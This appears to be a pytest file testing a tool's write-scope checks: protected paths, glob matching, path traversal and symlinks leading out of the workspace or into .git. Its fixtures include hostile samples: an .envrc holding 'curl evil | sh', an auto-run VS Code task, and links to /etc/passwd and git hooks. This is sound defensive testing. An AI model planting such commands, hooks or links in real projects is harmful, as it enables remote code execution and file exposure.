"""Write-scope checks: globs, always-refused paths, the protected-path table (each entry
refused, and allowed when the scope names it), symlinks that lead out, and accept itself."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from baton.workspace import accept, compute_diff, create_worktree, take_snapshot
from baton.workspace.scope import (
    PROTECTED,
    Protected,
    link_refusal,
    matches,
    normalize,
    refusal,
)
from tests.conftest import git

DOC = Path(__file__).resolve().parents[2] / "docs" / "reference" / "protected-paths.md"


def examples(glob: str) -> list[str]:
    """Paths a protected glob covers: at the top, and deeper when it applies anywhere."""
    body = glob.removeprefix("**/").replace("*", "project")
    path = body + "settings.yml" if body.endswith("/") else body
    return [path, f"pkg/deep/{path}"] if glob.startswith("**/") else [path]


CASES = [
    pytest.param(entry, glob, path, id=path)
    for entry in PROTECTED
    for glob in entry.globs
    for path in examples(glob)
]


@pytest.mark.parametrize(("entry", "glob", "path"), CASES)
def test_each_protected_path_is_refused_without_a_scope_naming_it(
    entry: Protected, glob: str, path: str
) -> None:
    for scope in ((), ("**",), ("*",), ("**/*",), ("src/",), ("*.yml", "**/*.json")):
        why = refusal(path, scope)
        assert why is not None and entry.reason in why, (path, scope)
        assert "name it in the task's scope" in why
    assert refusal(path.upper() if path.islower() else path.lower(), ()) is not None


@pytest.mark.parametrize(("entry", "glob", "path"), CASES)
def test_each_protected_path_is_allowed_when_the_scope_names_it(
    entry: Protected, glob: str, path: str
) -> None:
    assert refusal(path, [path]) is None
    assert refusal(path, ["src/", path]) is None  # other globs beside it change nothing
    assert refusal(path, [glob]) is None  # the table's own glob names it


def test_the_table_is_well_formed_and_documented() -> None:
    doc = DOC.read_text(encoding="utf-8")
    seen: set[str] = set()
    for entry in PROTECTED:
        assert entry.globs and entry.reason and not entry.reason.endswith(".")
        for glob in entry.globs:
            assert glob == glob.lower(), glob  # matched against the lowercased path
            assert glob not in seen, glob
            seen.add(glob)
            assert f"`{glob}`" in doc, f"{glob} is missing from {DOC.name}"
    listed = set(re.findall(r"^\| `([^`]+)`", doc, flags=re.MULTILINE))
    assert listed <= seen, f"{DOC.name} lists paths the table does not: {listed - seen}"


@pytest.mark.parametrize(
    "path",
    [
        "Makefile",
        "package.json",
        "build.rs",
        "conftest.py",
        "src/app.py",
        ".github/dependabot.yml",
        ".github/CODEOWNERS",
        ".gitignore",
        "docs/workflows/guide.md",
        "src/.github/workflows/ci.yml",  # not where a CI service looks
        "mylefthook.yml",
    ],
)
def test_ordinary_project_files_are_not_protected(path: str) -> None:
    assert refusal(path, ()) is None


@pytest.mark.parametrize(
    "path",
    [
        "../x",
        "a/../../x",
        "/etc/passwd",
        "C:\\Windows\\x",
        "",
        ".git/hooks/x",
        ".git/config",
        "sub/.git/HEAD",
        ".GIT/config",
    ],
)
def test_always_refused_whatever_the_scope(path: str) -> None:
    assert refusal(path, ()) is not None
    assert refusal(path, ["**"]) is not None
    assert refusal(path, [path]) is not None


def test_a_broader_glob_does_not_name_a_protected_path() -> None:
    assert refusal(".github/workflows/ci.yml", [".github/"]) is not None
    assert refusal(".github/workflows/ci.yml", ["**/*.yml"]) is not None
    assert refusal(".github/workflows/ci.yml", [".github/workflows/*.yml"]) is None
    assert refusal(".github/workflows/ci.yml", [".github/workflows"]) is None
    assert refusal(".github/dependabot.yml", [".github/"]) is None
    assert refusal("pkg/.envrc", ["pkg/"]) is not None
    assert refusal("pkg/.envrc", ["**/.envrc"]) is None
    # A glob naming one protected path does not open another.
    assert refusal(".husky/pre-push", [".github/workflows/"]) is not None
    # A path two entries cover needs both named.
    both = ".github/workflows/.gitattributes"
    assert refusal(both, [".github/workflows/"]) is not None
    assert refusal(both, [".github/workflows/", "**/.gitattributes"]) is None


@pytest.mark.parametrize(
    ("path", "glob", "expected"),
    [
        ("src/a.py", "src/", True),
        ("src/deep/a.py", "src/", True),
        ("srcx/a.py", "src/", False),
        ("src/a.py", "src", True),
        ("src/a.py", "src/*.py", True),
        ("src/deep/a.py", "src/*.py", False),
        ("src/deep/a.py", "src/**/*.py", True),
        ("src/a.py", "src/**/*.py", True),
        ("a.py", "**/*.py", True),
        ("x/y/a.py", "**/*.py", True),
        ("a.pyc", "*.py", False),
        ("a1.py", "a?.py", True),
        ("a12.py", "a?.py", False),
        ("docs/x.md", "./docs/", True),
    ],
)
def test_glob_matching(path: str, glob: str, expected: bool) -> None:
    assert matches(path, glob) is expected


def test_scope_limits_ordinary_paths() -> None:
    assert refusal("src/a.py", ["src/"]) is None
    assert refusal("README.md", ["src/"]) is not None
    assert refusal("README.md", []) is None
    assert normalize("./a//b/./c") == "a/b/c"


@pytest.mark.parametrize(
    ("path", "target", "why"),
    [
        ("link", "/etc/passwd", "outside the workspace"),
        ("link", "../outside", "outside the workspace"),
        ("a/b/link", "../../../x", "outside the workspace"),
        ("a/link", "b/../../../x", "outside the workspace"),
        ("link", "C:\\Windows", "outside the workspace"),
        ("hook", ".git/hooks/pre-commit", "into a .git folder"),
        ("src/hook", "../.git/hooks", "into a .git folder"),
        ("src/cfg", "../sub/.GIT/config", "into a .git folder"),
        ("link", "", "not a path"),
    ],
)
def test_links_out_of_the_tree_or_into_git_are_refused(path: str, target: str, why: str) -> None:
    reason = link_refusal(path, target)
    assert reason is not None and why in reason and path in reason


@pytest.mark.parametrize(
    ("path", "target"),
    [("link", "target.txt"), ("a/link", "../b/c.txt"), ("a/b/link", "../../x"), ("here", ".")],
)
def test_links_inside_the_tree_are_allowed(path: str, target: str) -> None:
    assert link_refusal(path, target) is None


# ------------------------------------------------------------------------ through accept


def test_accept_refuses_protected_files_and_links_out_with_their_reason(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "app.py").write_text("x = 1\n")
    git(root, "init", "-q", "-b", "main")
    git(root, "add", ".")
    git(root, "commit", "-q", "-m", "init")
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, root / "out")  # the user's own link out of the tree (untracked)
    snap = take_snapshot(root, "p1", state_home=tmp_path / "state")
    wt = create_worktree(snap, "p1", tmp_path / "wts")
    (wt / ".vscode").mkdir()
    (wt / ".vscode" / "tasks.json").write_text('{"tasks": [{"runOptions": "folderOpen"}]}\n')
    (wt / ".envrc").write_text("curl evil | sh\n")
    (wt / "Jenkinsfile").write_text("pipeline {}\n")
    (wt / "app.py").write_text("x = 2\n")
    os.symlink("/etc/passwd", wt / "passwd")
    os.symlink(".git/hooks/pre-commit", wt / "hook")
    os.symlink("../outside/x", wt / "up")
    os.symlink("out/x", wt / "through")  # inside as written, out through the user's link
    os.symlink("app.py", wt / "alias")
    files = compute_diff(snap, wt)
    by_path = {f.path: f for f in files}
    result = accept(snap, files, write=False)
    refused = {hid: why for hid, why in result.refused}
    for path, why in [
        (".vscode/tasks.json", "VS Code settings"),
        (".envrc", "direnv"),
        ("Jenkinsfile", "Jenkins"),
        ("passwd", "outside the workspace"),
        ("hook", "into a .git folder"),
        ("up", "outside the workspace"),
        ("through", "outside the workspace through a symlink"),
    ]:
        (hunk,) = by_path[path].hunks
        assert why in refused.get(hunk.id, ""), (path, refused)
    assert sorted(result.texts) == ["app.py"] and result.links == {"alias": "app.py"}

    links = ["passwd", "hook", "up", "through"]  # named in the scope: refused all the same
    result = accept(snap, files, scope=["app.py", "alias", ".vscode/tasks.json", ".envrc", *links])
    assert (root / ".vscode" / "tasks.json").exists() and (root / ".envrc").exists()
    assert (root / "app.py").read_text() == "x = 2\n" and os.readlink(root / "alias") == "app.py"
    for path in ("Jenkinsfile", "passwd", "hook", "up", "through"):
        assert not os.path.lexists(root / path), path
    assert len(result.refused) == 5
